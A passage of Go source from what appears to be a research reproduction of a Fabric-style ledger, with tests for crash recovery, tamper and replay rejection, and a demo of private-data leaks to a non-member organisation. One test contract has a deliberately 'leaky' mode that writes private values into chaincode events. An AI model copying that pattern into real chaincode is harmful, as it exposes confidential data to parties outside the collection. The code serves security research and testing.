		fmt.Printf("  client received payload: %q (code %v)\n", res.Payload, res.Code)

		// The audit trail exists at the non-member too.
		tx, code, err := env.Net.Peer("org3").Ledger().Transaction(res.TxID)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  audit record at non-member org3: tx %s.. by %s, code %v\n",
			res.TxID[:8], creatorOrg(tx), code)

		// But what can org3 extract from it? A leak means the payload
		// recovered from org3's blockchain equals the private value
		// the client received.
		leaked := false
		for _, leak := range attacks.ExtractPDCPayloads(env.Net.Peer("org3")) {
			if leak.TxID == res.TxID && leak.Payload == string(res.Payload) {
				fmt.Printf("  org3 recovered the payload: %q  <-- PDC LEAKED\n", leak.Payload)
				leaked = true
			}
		}
		if !leaked {
			fmt.Println("  org3 sees only a 32-byte digest in the payload field — no leak")
		}
	}

	run("Original framework:", core.OriginalFabric())
	run("With Feature 2 (endorsers sign PR_Hash; transactions carry hashed payloads):", core.Feature2Only())
}

// creatorOrg extracts the submitting client's identity from the
// transaction — the audit value this use case is after.
func creatorOrg(tx *ledger.Transaction) string {
	cert, err := identity.ParseCertificate(tx.Creator)
	if err != nil {
		return "unknown"
	}
	return cert.Subject
}
