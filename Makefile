GO ?= go

.PHONY: check build test race vet bench

## check: the full gate — vet, build, race-enabled tests
check: vet build race

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

vet:
	$(GO) vet ./...

## bench: the per-figure benchmarks (see bench_test.go)
bench:
	$(GO) test -bench . -benchmem -run '^$$' .
