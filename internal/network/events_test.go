package network

import (
	"testing"

	"repro/internal/chaincode"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

// extractEvents scans a peer's blockchain for chaincode events of valid
// PDC transactions (mirrors attacks.ExtractPDCEvents, which cannot be
// imported here without a cycle).
func extractEvents(p *peer.Peer) []*ledger.ChaincodeEvent {
	var out []*ledger.ChaincodeEvent
	p.Ledger().Scan(func(_ uint64, tx *ledger.Transaction, code ledger.ValidationCode) bool {
		if code != ledger.Valid {
			return true
		}
		prp, err := tx.ResponsePayloadParsed()
		if err != nil || prp.Event == nil {
			return true
		}
		out = append(out, prp.Event)
		return true
	})
	return out
}

// eventContract emits chaincode events: a clean notification event and a
// sloppy one that embeds the private value.
func eventContract() chaincode.Router {
	return chaincode.Router{
		"setPrivateWithEvent": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (key, value, leaky)
			if err := stub.PutPrivateData("pdc1", args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			payload := []byte("updated:" + args[0])
			if len(args) > 2 && args[2] == "leaky" {
				// The sloppy pattern: private value in the event.
				payload = []byte(args[1])
			}
			if err := stub.SetEvent("PrivateAssetChanged", payload); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
}

func newEventNet(t *testing.T) *Network {
	t.Helper()
	n, err := New(Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 71})
	if err != nil {
		t.Fatal(err)
	}
	def := &chaincode.Definition{
		Name:    "ev",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	if err := n.DeployChaincode(def, eventContract()); err != nil {
		t.Fatal(err)
	}
	return n
}

func TestChaincodeEventsDelivered(t *testing.T) {
	n := newEventNet(t)
	cl := n.Gateway("org1")
	members := []*peer.Peer{n.Peer("org1"), n.Peer("org2")}

	var got *ledger.ChaincodeEvent
	n.Peer("org2").OnEvent(func(blockNum uint64, txID string, ev *ledger.ChaincodeEvent) {
		got = ev
	})

	res, err := submitTx(cl, members, "ev", "setPrivateWithEvent", []string{"k", "12", "clean"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Event == nil || res.Event.Name != "PrivateAssetChanged" {
		t.Fatalf("client event = %+v", res.Event)
	}
	if string(res.Event.Payload) != "updated:k" {
		t.Fatalf("event payload = %q", res.Event.Payload)
	}
	if got == nil || got.Name != "PrivateAssetChanged" {
		t.Fatalf("peer listener event = %+v", got)
	}
}

func TestEventChannelLeaksPrivateData(t *testing.T) {
	n := newEventNet(t)
	cl := n.Gateway("org1")
	members := []*peer.Peer{n.Peer("org1"), n.Peer("org2")}

	// Clean event: the non-member sees an event but not the value.
	if _, err := submitTx(cl, members, "ev", "setPrivateWithEvent", []string{"k", "12", "clean"}, nil); err != nil {
		t.Fatal(err)
	}
	// Sloppy event: the private value rides the event into every
	// peer's blockchain.
	if _, err := submitTx(cl, members, "ev", "setPrivateWithEvent", []string{"k", "13", "leaky"}, nil); err != nil {
		t.Fatal(err)
	}

	events := extractEvents(n.Peer("org3"))
	if len(events) != 2 {
		t.Fatalf("extracted %d events", len(events))
	}
	var sawClean, sawLeak bool
	for _, ev := range events {
		switch string(ev.Payload) {
		case "updated:k":
			sawClean = true
		case "13":
			sawLeak = true
		}
	}
	if !sawClean {
		t.Error("clean event not extracted")
	}
	if !sawLeak {
		t.Error("leaky event did not expose the private value")
	}
}

func TestInvalidTransactionsEmitNoEvents(t *testing.T) {
	n := newEventNet(t)
	cl := n.Gateway("org1")

	var fired int
	n.Peer("org1").OnEvent(func(uint64, string, *ledger.ChaincodeEvent) { fired++ })

	// Endorsed only by org1: fails MAJORITY, so no event fires.
	prop, _ := cl.NewProposal("ev", "setPrivateWithEvent", []string{"k", "12", "clean"}, nil)
	tx, _, err := endorseProp(cl, prop, []*peer.Peer{n.Peer("org1")})
	if err != nil {
		t.Fatal(err)
	}
	res, err := orderTx(cl, tx)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code == ledger.Valid {
		t.Fatal("minority tx valid")
	}
	if fired != 0 {
		t.Fatalf("events fired for invalid tx: %d", fired)
	}
}
