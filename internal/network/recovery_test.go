package network

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"testing"

	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/storage/durable"
)

// mkDurablePeer builds an org2 peer on the durable backend rooted at
// dir, approved for the test network's "asset" definition. Each call
// builds a fresh peer object; calling it twice over the same dir
// models a process restart.
func mkDurablePeer(t *testing.T, n *Network, dir, name string) *peer.Peer {
	t.Helper()
	id, err := n.CA("org2").Issue(name, "peer")
	if err != nil {
		t.Fatal(err)
	}
	sec := core.OriginalFabric()
	sec.StorageBackend = "durable"
	sec.StorageDir = dir
	p, err := peer.New(peer.Config{
		Identity: id,
		Channel:  n.Channel,
		Gossip:   n.Gossip,
		Security: sec,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.ApproveDefinition(n.Peer("org2").Definition("asset")); err != nil {
		t.Fatal(err)
	}
	return p
}

// reconcileAll drives the anti-entropy reconciler until the peer has no
// missing private entries left (or gives up after a bounded number of
// ticks) so state hashes compare the healed state.
func reconcileAll(t *testing.T, p *peer.Peer) {
	t.Helper()
	for i := 0; i < 32; i++ {
		if len(p.Validator().Missing()) == 0 {
			return
		}
		p.TickReconcile()
	}
	if missing := p.Validator().Missing(); len(missing) != 0 {
		t.Fatalf("%s still missing %d private entries after reconciliation", p.Name(), len(missing))
	}
}

// TestCrashMidCommitRecovery kills a peer's state log mid-commit (block
// durable, state flush failed — the crash window docs/STORAGE.md §7 is
// specified against), reopens the directory with a fresh peer, and
// checks the recovered world state is byte-identical to a peer that
// never crashed.
func TestCrashMidCommitRecovery(t *testing.T) {
	n := newTestNet(t)
	crashDir, refDir := t.TempDir(), t.TempDir()

	crash := mkDurablePeer(t, n, crashDir, "peer7.org2")
	ref := mkDurablePeer(t, n, refDir, "peer8.org2")

	var mu sync.Mutex
	var crashErrs []error
	n.Orderer.RegisterDelivery(func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		crashErrs = append(crashErrs, crash.CommitBlock(b))
		_ = ref.CommitBlock(b)
	})

	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"a", "1"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}

	// The disk dies under the crash peer: every state-log append from
	// here on fails, so blocks append durably but their state batches
	// never land — exactly the torn window recovery must close.
	boom := errors.New("injected disk failure")
	crash.Backend().(*durable.Backend).InjectStateFailure(boom)

	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"b", "2"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"a", "3"}, nil); err != nil {
		t.Fatal(err)
	}

	mu.Lock()
	var sawFailure bool
	for _, err := range crashErrs {
		if errors.Is(err, boom) {
			sawFailure = true
		}
	}
	mu.Unlock()
	if !sawFailure {
		t.Fatal("no CommitBlock surfaced the injected storage failure")
	}

	// "Restart": abandon the broken peer object without Close and bring
	// up a new one over the same directory.
	reopened := mkDurablePeer(t, n, crashDir, "peer7.org2")
	if err := reopened.Restore(); err != nil {
		t.Fatalf("restore after crash: %v", err)
	}
	defer reopened.Close()
	defer ref.Close()

	if got, want := reopened.Ledger().Height(), ref.Ledger().Height(); got != want {
		t.Fatalf("recovered height = %d, want %d", got, want)
	}
	reconcileAll(t, reopened)
	reconcileAll(t, ref)
	if got, want := reopened.WorldState().StateHash(), ref.WorldState().StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("recovered state hash differs from uninterrupted peer:\n got %x\nwant %x", got, want)
	}
	if reopened.Ledger().VerifyChain() != -1 {
		t.Fatal("recovered chain broken")
	}

	// The recovered peer is fully live: it commits the next block and
	// stays in lockstep with the reference.
	n.Orderer.RegisterDelivery(func(b *ledger.Block) {
		mu.Lock()
		defer mu.Unlock()
		if err := reopened.CommitBlock(b); err != nil {
			t.Errorf("recovered peer commit: %v", err)
		}
	})
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"c", "4"}, nil); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	if got, want := reopened.Ledger().Height(), ref.Ledger().Height(); got != want {
		t.Fatalf("post-recovery height = %d, want %d", got, want)
	}
	if !bytes.Equal(reopened.WorldState().StateHash(), ref.WorldState().StateHash()) {
		t.Fatal("post-recovery state hash diverged")
	}
}

// TestTornStateLogTailRecovery truncates the durable state log
// mid-record — the torn tail a power loss leaves behind — and checks
// reopening repairs it: the torn batch is dropped, the watermark falls
// back, and replaying the affected blocks reproduces the exact state.
func TestTornStateLogTailRecovery(t *testing.T) {
	n := newTestNet(t)
	dir := t.TempDir()

	p := mkDurablePeer(t, n, dir, "peer7.org2")
	n.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = p.CommitBlock(b) })

	cl := n.Gateway("org1")
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"a", "1"}, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"b", "2"}, nil); err != nil {
		t.Fatal(err)
	}
	want := p.WorldState().StateHash()
	height := p.Ledger().Height()
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}

	// Tear the last state record: chop a few bytes off the tail of the
	// newest state segment, as an interrupted write would.
	stateDir := filepath.Join(dir, "peer7.org2", "state")
	segs, err := filepath.Glob(filepath.Join(stateDir, "seg-*.log"))
	if err != nil || len(segs) == 0 {
		t.Fatalf("state segments: %v (%d found)", err, len(segs))
	}
	sort.Strings(segs)
	last := segs[len(segs)-1]
	info, err := os.Stat(last)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last, info.Size()-3); err != nil {
		t.Fatal(err)
	}

	reopened := mkDurablePeer(t, n, dir, "peer7.org2")
	defer reopened.Close()
	if err := reopened.Restore(); err != nil {
		t.Fatalf("restore after torn tail: %v", err)
	}
	if got := reopened.Ledger().Height(); got != height {
		t.Fatalf("recovered height = %d, want %d", got, height)
	}
	if got := reopened.WorldState().StateHash(); !bytes.Equal(got, want) {
		t.Fatalf("recovered state hash differs after torn-tail repair:\n got %x\nwant %x", got, want)
	}
}
