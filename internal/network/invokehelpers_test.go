package network

// Shorthand over the gateway invoke API for this package's tests, which
// exercise many (endorser set, function, args) combinations per test.
// The endorser set is always explicit — nil means "zero endorsers" and
// fails with ErrNoEndorsers, never the gateway's every-peer default.

import (
	"context"

	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/service"
)

// submitTx endorses by the explicit peer set, orders, and waits for the
// final commit status.
func submitTx(gw *gateway.Gateway, endorsers []*peer.Peer, cc, fn string, args []string, transient map[string][]byte) (*gateway.Result, error) {
	req := service.NewInvoke(cc, fn, args...).
		WithTransient(transient).
		WithEndorsers(service.Names(endorsers)...)
	return gw.Submit(context.Background(), req)
}

// submitRetry is submitTx with MVCC-conflict resubmission.
func submitRetry(gw *gateway.Gateway, endorsers []*peer.Peer, cc, fn string, args []string, transient map[string][]byte, attempts int) (*gateway.Result, error) {
	req := service.NewInvoke(cc, fn, args...).
		WithTransient(transient).
		WithEndorsers(service.Names(endorsers)...)
	return gw.SubmitWithRetry(context.Background(), req, attempts)
}

// endorseProp collects endorsements for a pre-built proposal without
// ordering it.
func endorseProp(gw *gateway.Gateway, prop *ledger.Proposal, endorsers []*peer.Peer) (*ledger.Transaction, []byte, error) {
	return gw.EndorseProposal(context.Background(), prop, service.AsEndorsers(endorsers))
}

// orderTx orders a pre-assembled transaction and waits for its status.
func orderTx(gw *gateway.Gateway, tx *ledger.Transaction) (*gateway.Result, error) {
	return gw.SubmitAssembled(context.Background(), tx, nil)
}

// evalTx runs a query against one peer without ordering.
func evalTx(gw *gateway.Gateway, target *peer.Peer, cc, fn string, args ...string) ([]byte, error) {
	return gw.Evaluate(context.Background(),
		service.NewInvoke(cc, fn, args...).WithEndorsers(target.Name()))
}
