package network

import (
	"context"
	"fmt"
	"sync"
	"testing"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/service"
)

// newLoadNet builds a three-org network with a plain public-asset
// chaincode and a large orderer batch: block cuts come only from the
// commit waiters' targeted flushes, which is what these tests probe.
func newLoadNet(t *testing.T, batchSize int) *Network {
	t.Helper()
	n, err := New(Options{
		Orgs:      []string{"org1", "org2", "org3"},
		BatchSize: batchSize,
		Seed:      23,
	})
	if err != nil {
		t.Fatalf("build network: %v", err)
	}
	def := &chaincode.Definition{Name: "asset", Version: "1.0"}
	if err := n.DeployChaincode(def, contracts.NewPublicAsset()); err != nil {
		t.Fatalf("deploy: %v", err)
	}
	return n
}

// TestConcurrentSubmitStatusCloseStress hammers one shared Gateway with
// concurrent SubmitAsync / Status / Close interleavings — the -race
// regression test for the commit-handle locking. Every deliver
// subscription must be released by the end, whichever path closed it.
func TestConcurrentSubmitStatusCloseStress(t *testing.T) {
	n := newLoadNet(t, 64)
	defer n.Close()
	defer n.Orderer.Stop()
	contract := n.Gateway("org1").Network("c1").Contract("asset")
	deliver := n.Peer("org1").Deliver()
	// Warm the gateway's shared commit-status subscription first, so
	// the baseline below includes it and the final check still catches
	// any per-handle growth.
	warm, err := contract.SubmitAsync(context.Background(), "set", gateway.WithArguments("warmup", "v"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := warm.Status(context.Background()); err != nil {
		t.Fatal(err)
	}
	warm.Close()
	base := deliver.SubscriberCount()

	const goroutines = 12
	const perG = 6
	var wg sync.WaitGroup
	errs := make(chan error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			ctx := context.Background()
			for i := 0; i < perG; i++ {
				key := fmt.Sprintf("stress-%d-%d", g, i)
				commit, err := contract.SubmitAsync(ctx, "set", gateway.WithArguments(key, "v"))
				if err != nil {
					errs <- fmt.Errorf("goroutine %d tx %d: %w", g, i, err)
					return
				}
				switch i % 3 {
				case 0: // wait, then close
					if _, err := commit.Status(ctx); err != nil {
						errs <- fmt.Errorf("goroutine %d tx %d status: %w", g, i, err)
						return
					}
					commit.Close()
				case 1: // abandon immediately
					commit.Close()
				default: // racing Status and Close
					var inner sync.WaitGroup
					inner.Add(2)
					go func() { defer inner.Done(); _, _ = commit.Status(ctx) }()
					go func() { defer inner.Done(); commit.Close() }()
					inner.Wait()
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	if got := deliver.SubscriberCount(); got != base {
		t.Fatalf("leaked deliver subscriptions: %d live, %d at baseline", got, base)
	}
}

// TestBatchingPreservedUnderConcurrentWaiters: with a large batch size
// and no batch timer, block cuts come only from commit waiters' targeted
// flushes. Pre-fix, every Status call issued an unconditional Flush and
// the mean batch degenerated to ~1 tx/block; the conditional FlushTx
// keeps concurrent submitters' transactions batching together.
func TestBatchingPreservedUnderConcurrentWaiters(t *testing.T) {
	n := newLoadNet(t, 64)
	defer n.Close()
	defer n.Orderer.Stop()

	const clients = 8
	const perClient = 8
	orgs := n.Orgs()
	var wg sync.WaitGroup
	errs := make(chan error, clients)
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			contract := n.Gateway(orgs[c%len(orgs)]).Network("c1").Contract("asset")
			for i := 0; i < perClient; i++ {
				key := fmt.Sprintf("batch-%d-%d", c, i)
				if _, err := contract.Submit(context.Background(), "set", gateway.WithArguments(key, "v")); err != nil {
					errs <- fmt.Errorf("client %d tx %d: %w", c, i, err)
					return
				}
			}
		}(c)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	om := n.Orderer.Metrics()
	ordered, blocks := om[metrics.TxOrdered], om[metrics.BlocksOrdered]
	if ordered != clients*perClient {
		t.Fatalf("tx_ordered = %d, want %d", ordered, clients*perClient)
	}
	if blocks == 0 {
		t.Fatal("no blocks ordered")
	}
	mean := float64(ordered) / float64(blocks)
	t.Logf("mean batch size %.2f (%d txs / %d blocks, %d flushes elided)",
		mean, ordered, blocks, om[metrics.OrdererFlushesElided])
	if mean <= 1.5 {
		t.Fatalf("mean batch size %.2f (%d txs / %d blocks): targeted flush is not preserving batching",
			mean, ordered, blocks)
	}
	// Lockstep waiters produce many stale status checks; pre-fix each one
	// executed a pointless Flush, post-fix they are elided server-side.
	if om[metrics.OrdererFlushesElided] == 0 {
		t.Fatal("no stale flush markers elided: waiters are still flushing unconditionally")
	}
}

// TestDuplicateRejectedBeforeSignatureVerification: a replayed
// transaction must be caught by the peer's sharded dedup cache in
// preValidate, before any endorsement-signature verification — the
// dedup hit counter moves and the verify-cache counters do not.
func TestDuplicateRejectedBeforeSignatureVerification(t *testing.T) {
	n := newLoadNet(t, 1)
	defer n.Close()
	defer n.Orderer.Stop()
	gw := n.Gateway("org1")
	commitPeer := n.Peer("org1")
	ctx := context.Background()

	nonce, err := ledger.NewNonce()
	if err != nil {
		t.Fatal(err)
	}
	creator := gw.Identity().Cert.Bytes()
	prop := &ledger.Proposal{
		TxID:      ledger.NewTxID(nonce, creator),
		ChannelID: "c1",
		Chaincode: "asset",
		Function:  "set",
		Args:      []string{"dup-k", "v"},
		Creator:   creator,
		Nonce:     nonce,
	}
	tx, payload, err := gw.EndorseProposal(ctx, prop, service.AsEndorsers(n.Peers()))
	if err != nil {
		t.Fatal(err)
	}

	res, err := gw.SubmitAssembled(ctx, tx, payload)
	if err != nil {
		t.Fatal(err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("first submission code = %v", res.Code)
	}

	// Snapshot the commit peer after the first copy committed: any
	// signature verification for the duplicate would move these.
	before := commitPeer.Metrics()
	verifyBefore := before[metrics.VerifyCacheHits] + before[metrics.VerifyCacheMisses]
	hitsBefore := before[metrics.DedupHits]

	dup, err := gw.SubmitAssembled(ctx, tx, payload)
	if err != nil {
		t.Fatal(err)
	}
	if dup.Code != ledger.DuplicateTxID {
		t.Fatalf("duplicate submission code = %v, want DuplicateTxID", dup.Code)
	}

	after := commitPeer.Metrics()
	if got := after[metrics.DedupHits]; got <= hitsBefore {
		t.Fatalf("dedup_hits = %d, want > %d after a replay", got, hitsBefore)
	}
	if got := after[metrics.VerifyCacheHits] + after[metrics.VerifyCacheMisses]; got != verifyBefore {
		t.Fatalf("verify cache consulted %d times while validating a replay, want 0",
			got-verifyBefore)
	}
}

// TestAbandonedCommitsReleaseSubscriptions: SubmitAsync handles share
// the gateway's single commit-status subscription — N live handles pin
// one stream, not N (the pre-router cost: a subscription per handle,
// and the pre-fix leak before that: abandoned handles pinning theirs
// until process exit). Gateway.Close releases the shared stream.
func TestAbandonedCommitsReleaseSubscriptions(t *testing.T) {
	n := newLoadNet(t, 64)
	defer n.Close()
	defer n.Orderer.Stop()
	gw := n.Gateway("org2")
	contract := gw.Network("c1").Contract("asset")
	deliver := n.Peer("org2").Deliver()
	base := deliver.SubscriberCount()

	var handles []*gateway.Commit
	for i := 0; i < 10; i++ {
		commit, err := contract.SubmitAsync(context.Background(), "set",
			gateway.WithArguments(fmt.Sprintf("leak-%d", i), "v"))
		if err != nil {
			t.Fatal(err)
		}
		handles = append(handles, commit)
	}
	if got := deliver.SubscriberCount(); got != base+1 {
		t.Fatalf("SubscriberCount = %d with 10 live handles, want %d (one shared stream)", got, base+1)
	}
	for _, c := range handles {
		c.Close()
	}
	if got := deliver.SubscriberCount(); got != base+1 {
		t.Fatalf("SubscriberCount = %d after closing every handle, want %d (stream outlives handles)", got, base+1)
	}
	gw.Close()
	if got := deliver.SubscriberCount(); got != base {
		t.Fatalf("SubscriberCount = %d after Gateway Close, want %d", got, base)
	}
}
