package network

import (
	"testing"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

// testDefWithBTL is the test chaincode definition with a BlockToLive.
func testDefWithBTL(btl uint64) *chaincode.Definition {
	return &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
			BlockToLive:  btl,
		}},
	}
}

// testPDCImpl merges the public asset contract with an unconstrained PDC
// contract.
func testPDCImpl() chaincode.Router {
	merged := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		merged[name] = fn
	}
	return merged
}

// order bypasses the client and pushes an assembled transaction straight
// to the orderer, as a malicious or buggy client could.
func order(t *testing.T, n *Network, tx *ledger.Transaction) ledger.ValidationCode {
	t.Helper()
	if err := n.Orderer.Submit(tx); err != nil {
		t.Fatalf("order: %v", err)
	}
	n.Orderer.Flush()
	_, code, err := n.Peer("org1").Ledger().Transaction(tx.TxID)
	if err != nil {
		t.Fatalf("tx not in ledger: %v", err)
	}
	return code
}

func endorse(t *testing.T, n *Network, fn string, args []string) *ledger.Transaction {
	t.Helper()
	cl := n.Gateway("org1")
	prop, err := cl.NewProposal("asset", fn, args, nil)
	if err != nil {
		t.Fatal(err)
	}
	tx, _, err := endorseProp(cl, prop, n.Peers())
	if err != nil {
		t.Fatal(err)
	}
	return tx
}

func TestTamperedResponsePayloadRejected(t *testing.T) {
	n := newTestNet(t)
	tx := endorse(t, n, "set", []string{"k", "1"})

	// Flip the agreed response payload after endorsement: every
	// signature check must fail.
	tx.ResponsePayload = append([]byte(nil), tx.ResponsePayload...)
	tx.ResponsePayload[len(tx.ResponsePayload)/2] ^= 1
	// Structurally it may no longer parse; either BadPayload or
	// BadSignature is a rejection.
	code := order(t, n, tx)
	if code == ledger.Valid {
		t.Fatalf("tampered payload marked valid")
	}
}

func TestForgedEndorsementSignatureRejected(t *testing.T) {
	n := newTestNet(t)
	tx := endorse(t, n, "set", []string{"k", "1"})
	tx.Endorsements[0].Signature[4] ^= 0x40
	if code := order(t, n, tx); code != ledger.BadSignature {
		t.Fatalf("code = %v, want BAD_SIGNATURE", code)
	}
}

func TestStrippedEndorsementsFailPolicy(t *testing.T) {
	n := newTestNet(t)
	tx := endorse(t, n, "set", []string{"k", "1"})
	tx.Endorsements = tx.Endorsements[:1] // 1 of 3 is no majority
	if code := order(t, n, tx); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("code = %v, want ENDORSEMENT_POLICY_FAILURE", code)
	}
}

func TestEndorsementFromUntrustedOrgRejected(t *testing.T) {
	n := newTestNet(t)
	tx := endorse(t, n, "set", []string{"k", "1"})

	// An identity from a CA outside the channel signs the payload.
	outsider, err := n.CA("org1").Issue("peer0.mallory", "peer")
	if err != nil {
		t.Fatal(err)
	}
	// Forge the certificate org so it is not validatable.
	cert := *outsider.Cert
	cert.Org = "mallory"
	sig, _ := outsider.Sign(tx.ResponsePayload)
	tx.Endorsements = append(tx.Endorsements, ledger.Endorsement{
		Endorser:  cert.Bytes(),
		Signature: sig,
	})
	if code := order(t, n, tx); code != ledger.BadSignature {
		t.Fatalf("code = %v, want BAD_SIGNATURE", code)
	}
}

func TestDuplicateEndorsementsDoNotInflatePolicy(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	prop, _ := cl.NewProposal("asset", "set", []string{"k", "1"}, nil)
	tx, _, err := endorseProp(cl, prop, []*peer.Peer{n.Peer("org1")})
	if err != nil {
		t.Fatal(err)
	}
	// Duplicate org1's endorsement three times: still only one org.
	tx.Endorsements = append(tx.Endorsements, tx.Endorsements[0], tx.Endorsements[0])
	if code := order(t, n, tx); code != ledger.EndorsementPolicyFailure {
		t.Fatalf("code = %v, want ENDORSEMENT_POLICY_FAILURE", code)
	}
}

func TestGossipDropRecordsMissingPrivateData(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")

	// org2 loses gossip deliveries AND cannot reconcile (we endorse
	// only via org1, then purge org1's transient store by committing —
	// so use drop + a tx endorsed by org1 only won't pass MAJORITY...
	// instead endorse with both members but drop org2's deliveries;
	// org2 reconciles from org1's transient store, so to force a miss
	// we drop deliveries to org2 and take org1 offline for serving by
	// using the non-member org3 as the only other endorser).
	n.Gossip.DropDeliveries("peer0.org2", true)

	res, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org3")},
		"asset", "setPrivate", []string{"k1", "12"}, nil,
	)
	if err != nil {
		t.Fatalf("submit: %v", err)
	}
	if res.Code != ledger.Valid {
		t.Fatalf("code = %v", res.Code)
	}

	// org2 reconciled from org1's transient store via gossip pull —
	// unless that is also unavailable. Either way the hashed write is
	// committed at org2.
	if _, _, ok := n.Peer("org2").PvtStore().GetPrivateHash("asset", "pdc1", "k1"); !ok {
		t.Fatal("hashed write missing at org2")
	}

	// With reconciliation available the value arrives; this asserts
	// the reconciliation path works under dropped deliveries.
	if v, _, ok := n.Peer("org2").PvtStore().GetPrivate("asset", "pdc1", "k1"); !ok || string(v) != "12" {
		missing := n.Peer("org2").MissingPrivateData(res.TxID)
		if len(missing) == 0 {
			t.Fatalf("private data absent at org2 but not recorded missing")
		}
	}
}

func TestBlockToLivePurgesAtMembers(t *testing.T) {
	n, err := New(Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	def := testDefWithBTL(2)
	if err := n.DeployChaincode(def, testPDCImpl()); err != nil {
		t.Fatal(err)
	}
	cl := n.Gateway("org1")
	members := []*peer.Peer{n.Peer("org1"), n.Peer("org2")}
	if _, err := submitTx(cl, members, "asset", "setPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}
	// Written in block 0; BlockToLive=2 purges at block 2.
	if _, _, ok := n.Peer("org1").PvtStore().GetPrivate("asset", "pdc1", "k1"); !ok {
		t.Fatal("private data missing right after write")
	}
	for i := 0; i < 2; i++ {
		if _, err := submitTx(cl, n.Peers(), "asset", "set", []string{"pub", "x"}, nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, _, ok := n.Peer("org1").PvtStore().GetPrivate("asset", "pdc1", "k1"); ok {
		t.Fatal("private data survived BlockToLive")
	}
	// The hash remains for auditability.
	if _, _, ok := n.Peer("org1").PvtStore().GetPrivateHash("asset", "pdc1", "k1"); !ok {
		t.Fatal("hash purged")
	}
}

// TestReplayedTransactionRejected: resubmitting a captured valid
// transaction is rejected with DUPLICATE_TXID. Read-only transactions
// would otherwise revalidate forever (their version checks keep
// passing), polluting audit trails.
func TestReplayedTransactionRejected(t *testing.T) {
	n := newTestNet(t)
	cl := n.Gateway("org1")
	if _, err := submitTx(cl,
		[]*peer.Peer{n.Peer("org1"), n.Peer("org2")},
		"asset", "setPrivate", []string{"k1", "12"}, nil); err != nil {
		t.Fatal(err)
	}
	prop, _ := cl.NewProposal("asset", "readPrivate", []string{"k1"}, nil)
	tx, _, err := endorseProp(cl, prop, []*peer.Peer{n.Peer("org1"), n.Peer("org2")})
	if err != nil {
		t.Fatal(err)
	}
	res, err := orderTx(cl, tx)
	if err != nil || res.Code != ledger.Valid {
		t.Fatalf("first submission: %v %v", res, err)
	}
	// Replay the identical transaction.
	if err := n.Orderer.Submit(tx); err != nil {
		t.Fatal(err)
	}
	n.Orderer.Flush()
	count := 0
	var replayCode ledger.ValidationCode
	n.Peer("org3").Ledger().Scan(func(_ uint64, stored *ledger.Transaction, code ledger.ValidationCode) bool {
		if stored.TxID == tx.TxID {
			count++
			replayCode = code
		}
		return true
	})
	if count != 2 {
		t.Fatalf("occurrences = %d", count)
	}
	if replayCode != ledger.DuplicateTxID {
		t.Fatalf("replay code = %v, want DUPLICATE_TXID", replayCode)
	}
}
