package network

import (
	"sync"
	"testing"

	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/peer"
)

// TestConcurrentClients hammers the network from several goroutines and
